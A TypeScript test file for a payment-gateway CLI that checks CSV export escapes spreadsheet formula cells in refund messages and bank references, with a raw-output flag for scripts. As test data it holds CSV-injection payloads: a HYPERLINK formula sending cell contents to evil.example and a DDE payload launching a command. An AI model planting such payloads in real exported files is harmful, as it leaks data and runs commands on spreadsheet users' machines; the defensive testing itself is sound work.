// Issue 31 item 9 (the commands run in-process): a refund's message and bank reference that a
// spreadsheet would run as formulas reach `refund list -o csv` with a leading `'` (contract,
// "Output rules"); `--csv-raw` writes them as given; amounts and plain negative numbers stay
// numbers (settle recon's refund row, -12.50).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pgwInProcess } from '../helpers/in-process.js';
import { parseCsv } from '../helpers/csv.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const DDE = "+cmd|' /C calc'!A0";

let dir: string;
let payment: string;
let refunds: { id: string; message: string; bankRef: string }[];
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'pgw-csv-'));
  payment = ((await json(['sandbox', 'seed', '--payments', '1'])) as string[])[0]!;
  refunds = [];
  for (const [message, bankRef, status] of [
    [HYPERLINK, DDE, 'REFUNDED'],
    ['@SUM(A1:A9)', '-2+3', 'FAILED'],
    ['\t=1+1', '-100.00', 'FAILED'],
  ]) {
    // Three refunds of 1 on one payment, meant: --again passes the repeat guard.
    const id = (await json(['refund', 'create', payment!, '--amount', '1', '--again'])).refund_id as string;
    await json(['refund', 'simulate', id, '--status', status!, '--message', message!, '--bank-ref', bankRef!]);
    refunds.push({ id, message: message!, bankRef: bankRef! });
  }
}, 60_000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function run(args: string[]) {
  const r = await pgwInProcess(args, { env: { PGW_CONFIG_DIR: dir } });
  expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
  return r;
}
async function json(args: string[]): Promise<any> {
  return JSON.parse((await run([...args, '--json'])).stdout);
}
/** refund id → [message, bank_ref_num] as a spreadsheet reads the document. */
async function cells(extra: string[]): Promise<Map<string, [string, string]>> {
  const rows = parseCsv((await run(['refund', 'list', '--payment-id', payment, '-o', 'csv', ...extra])).stdout);
  expect(rows[0]!.slice(6, 8)).toEqual(['message', 'bank_ref_num']);
  return new Map(rows.slice(1).map((r) => [r[0]!, [r[6]!, r[7]!]]));
}

describe('refund list -o csv: cells a spreadsheet would run', () => {
  it("get a leading ' (the formula is kept, as text); a plain decimal number stays as it is", async () => {
    const got = await cells([]);
    expect(got.get(refunds[0]!.id)).toEqual([`'${HYPERLINK}`, `'${DDE}`]);
    expect(got.get(refunds[1]!.id)).toEqual(["'@SUM(A1:A9)", "'-2+3"]);
    expect(got.get(refunds[2]!.id)).toEqual(["'\t=1+1", '-100.00']);
    // The raw document, as a spreadsheet receives it: no cell begins with a formula character.
    const doc = (await run(['refund', 'list', '--payment-id', payment, '-o', 'csv'])).stdout;
    expect(doc).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(doc).not.toMatch(/(^|,|\r\n)"?[=+@\t]/);
  });

  it('--csv-raw writes every cell as given, for scripts', async () => {
    const got = await cells(['--csv-raw']);
    expect(got.get(refunds[0]!.id)).toEqual([HYPERLINK, DDE]);
    expect(got.get(refunds[1]!.id)).toEqual(['@SUM(A1:A9)', '-2+3']);
    expect(got.get(refunds[2]!.id)).toEqual(['\t=1+1', '-100.00']);
  });

  it("docs/cli.md's example: refund list --all -o csv --csv-raw", async () => {
    const rows = parseCsv((await run(['refund', 'list', '--all', '-o', 'csv', '--csv-raw'])).stdout);
    expect(rows.find((r) => r[0] === refunds[0]!.id)!.slice(6, 8)).toEqual([HYPERLINK, DDE]);
  });

  it('JSON keeps the gateway values untouched; --csv-raw changes nothing there', async () => {
    const listed = (await json(['refund', 'list', '--payment-id', payment, '--csv-raw'])) as { refund_id: string; message: string; bank_ref_num: string }[];
    expect(listed.find((r) => r.refund_id === refunds[0]!.id)).toMatchObject({ message: HYPERLINK, bank_ref_num: DDE });
  });

  it('settle recon -o csv: a refund row keeps its negative net as a number', async () => {
    const [paid] = (await json(['sandbox', 'seed', '--payments', '1'])) as string[];
    const refund = await json(['refund', 'create', paid!, '--amount', '12.5']);
    const marked = await json(['settle', 'mark', paid!, '--refund', refund.refund_id]);
    const rows = parseCsv((await run(['settle', 'recon', marked.settlement_id, '-o', 'csv'])).stdout);
    const row = rows.find((r) => r[1] === refund.refund_id)!;
    expect(row.slice(6, 8)).toEqual(['12.50', '-12.50']);
  });
});
